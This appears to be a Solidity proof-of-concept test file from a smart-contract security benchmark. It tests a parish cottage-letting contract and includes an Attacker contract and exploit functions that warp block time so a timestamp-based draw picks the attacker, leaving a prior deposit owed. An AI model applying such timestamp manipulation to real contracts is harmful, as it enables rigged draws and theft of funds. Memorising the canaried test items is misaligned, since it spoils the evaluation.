// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "./MillpondCottage.sol";

// assay-canary-3b81a415-1376-45f5-85c4-878d4bfa79e0

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

/// Takes no ether.
contract Rock {}

contract Applicant {
    MillpondCottage internal cottage;

    constructor(MillpondCottage _cottage) public {
        cottage = _cottage;
    }

    function() external payable {}

    function offer(uint256 rent) public {
        cottage.offer.value(rent)();
    }

    function takeBack() public {
        cottage.takeBack();
    }

    function giveUp() public {
        cottage.giveUp();
    }
}

// Ends the letting in a second in which the draw falls on itself, and in no other.
contract Attacker is Applicant {
    constructor(MillpondCottage _cottage) public Applicant(_cottage) {}

    function run() external returns (bool) {
        (bool done, ) = address(this).call(abi.encodeWithSelector(this.attempt.selector));
        return done;
    }

    function attempt() external {
        cottage.choose();
        require(cottage.tenant() == address(this), "not in this second");
    }

    function close() external {
        cottage.choose();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    MillpondCottage internal cottage;
    Applicant[3] internal people;
    Attacker internal clockwatcher;

    function() external payable {}

    function setUp() public {
        vm.warp(1700000000 - 400 days);
        cottage = new MillpondCottage();
        cottage.open(2 ether, 6 ether);
        for (uint256 i = 0; i < 3; i++) {
            people[i] = new Applicant(cottage);
            vm.deal(address(people[i]), i == 0 ? 13 ether : 10 ether);
        }

        // The letting of the year before: the last applicant leaves its deposit where it is.
        people[0].offer(3 ether);
        people[2].offer(2 ether);
        vm.warp(1700000000 - 378 days);
        cottage.choose();

        vm.warp(1700000000);
        cottage.open(2 ether, 6 ether);
        clockwatcher = new Attacker(cottage);
        vm.deal(address(clockwatcher), 6 ether);
        for (uint256 i = 0; i < 3; i++) people[i].offer(6 ether);
    }

    function test_Regular() public {
        require(cottage.applicantCount() == 3, "three applicants");
        require(cottage.refundOf(address(people[2])) == 2 ether, "due since last year");
        people[2].takeBack();
        (bool ok, ) = address(people[0]).call(abi.encodeWithSelector(people[0].offer.selector, 1 ether));
        require(!ok, "above the ceiling");
        (ok, ) = address(cottage).call(abi.encodeWithSelector(cottage.choose.selector));
        require(!ok, "too early");
        vm.warp(1700000000 + 22 days);
        (ok, ) = address(people[1]).call(abi.encodeWithSelector(people[1].offer.selector, 1 ether));
        require(!ok, "too late");

        uint256 before = address(this).balance;
        cottage.choose();
        require(address(this).balance == before + 6 ether, "rent paid to the parish");
        uint256 chosen = 0;
        for (uint256 i = 0; i < 3; i++) {
            if (cottage.tenant() == address(people[i])) {
                chosen++;
                continue;
            }
            people[i].takeBack();
            require(address(people[i]).balance == 10 ether, "deposit returned");
        }
        require(chosen == 1 && address(cottage).balance == 0, "one tenant, nothing kept");
        (ok, ) = address(cottage).call(abi.encodeWithSelector(cottage.open.selector, 1, 2));
        require(!ok, "let already");
        vm.warp(now + 366 days);
        cottage.open(1 ether, 2 ether);
        vm.warp(now + 22 days);
        cottage.choose();
        require(cottage.offersUntil() == 0, "nobody applied");
        cottage.open(1 ether, 2 ether);

        // a list full of low offers keeps nobody out who offers more
        for (uint256 i = 0; i < 64; i++) {
            vm.deal(address(0x1000 + i), 1 ether);
            vm.prank(address(0x1000 + i));
            cottage.offer.value(1 ether)();
        }
        (ok, ) = address(people[0]).call(abi.encodeWithSelector(people[0].offer.selector, 1 ether));
        require(!ok, "no higher than the lowest");
        people[0].offer(1.5 ether);
        require(cottage.applicantCount() == 64 && cottage.refundOf(address(0x103f)) == 1 ether, "the last of the lowest made room");
        vm.prank(address(0x103f));
        cottage.takeBack();
        vm.warp(now + 22 days);
        cottage.choose();
        require(cottage.tenant() == address(people[0]), "the highest offer");
        people[0].giveUp();
        require(cottage.tenant() == address(0), "left early");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Only the parish lets the cottage, at rents that make sense, once at a time.
    function test_RefusesLettings() public {
        vm.expectRevert("Cottage: not free");
        cottage.open(1, 2);
        MillpondCottage other = new MillpondCottage();
        refuses(address(people[0]), "Cottage: parish only");
        other.open(1, 2);
        vm.expectRevert("Cottage: rents");
        other.open(0, 2);
        vm.expectRevert("Cottage: rents");
        other.open(2, 1);
        vm.expectRevert("Cottage: offers still open");
        other.choose();
    }

    /// Offers in time and in range, and refunds that are due and taken.
    function test_RefusesOffers() public {
        vm.deal(address(0x1000), 10 ether);
        refuses(address(0x1000), "Cottage: out of range");
        cottage.offer.value(1 ether)();
        refuses(address(0x1000), "Cottage: nothing due");
        cottage.takeBack();
        address rock = address(new Rock());
        vm.deal(rock, 3 ether);
        vm.prank(rock);
        cottage.offer.value(3 ether)();
        vm.warp(now + 21 days);
        refuses(address(0x1000), "Cottage: no offers now");
        cottage.offer.value(3 ether)();
        cottage.choose();
        refuses(rock, "Cottage: payment refused");
        cottage.takeBack();
    }

    function exploit() public {
        clockwatcher.offer(6 ether);
        uint256 time = cottage.offersUntil();
        for (uint256 i = 0; i < 4; i++) {
            vm.warp(time + i);
            if (clockwatcher.run()) break;
        }
    }

    function test_Exploit() public {
        exploit();
        require(cottage.tenant() == address(clockwatcher), "somebody else");
    }

    /// What the last applicant can still get.
    function dueToTheLast() public view returns (uint256) {
        return cottage.refundOf(address(people[2])) + cottage.offerOf(address(people[2]));
    }

    // In a second in which the first applicant becomes the tenant.
    function exploit2() public {
        uint256 time = cottage.offersUntil();
        vm.warp(time + (3 - (time % 3)));
        clockwatcher.close();
    }

    function test_Exploit2() public {
        exploit2();
        require(dueToTheLast() == 6 ether, "the older deposit is still due");
    }

    function target() public view returns (address) {
        return address(cottage);
    }

    function attacker() public view returns (address) {
        return address(clockwatcher);
    }
}
